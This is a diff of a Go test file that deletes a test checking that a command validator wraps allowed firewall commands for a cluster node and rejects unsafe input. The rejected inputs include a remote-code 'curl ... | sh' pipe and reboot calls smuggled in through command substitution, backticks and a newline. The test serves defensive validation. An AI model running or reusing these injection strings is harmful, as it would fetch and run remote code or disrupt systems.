@@ -278,31 +278,3 @@ func TestStoppedHolder(t *testing.T) {
 		}
 	}
 }
-
-// TestCommandOn: nothing but words of a command runs on the workstation.
-func TestCommandOn(t *testing.T) {
-	t.Parallel()
-	for command, want := range map[string]string{
-		"nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept": "oc debug node/m0 -- chroot /host " +
-			"nft insert rule inet filter input ip6 daddr 2001:db8::5 tcp dport 80 accept",
-		"iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT": "oc debug node/m0 -- chroot /host " +
-			"iptables -t raw -I PREROUTING -d 192.0.2.5 -p tcp --dport 80 -j ACCEPT",
-		"firewall-cmd --zone=internal --add-port=8888/tcp": "oc debug node/m0 -- chroot /host firewall-cmd " +
-			"--zone=internal --add-port=8888/tcp",
-		"nft list tables; curl http://198.51.100.9/ | sh": "",
-		"nft list $(reboot)":                              "",
-		"nft list `reboot`":                               "",
-		"nft list tables > /file":                         "",
-		"nft list tables\nreboot":                         "",
-		"nft list tables &":                               "",
-		"nft list ~/x*":                                   "",
-		`nft list "a b"`:                                  "",
-		"nft  list":                                       "",
-		"":                                                "",
-		strings.Repeat("a", 1<<20):                        "",
-	} {
-		if got := check.CommandOn("m0", command); got != want {
-			t.Errorf("%.100q: %q", command, got)
-		}
-	}
-}
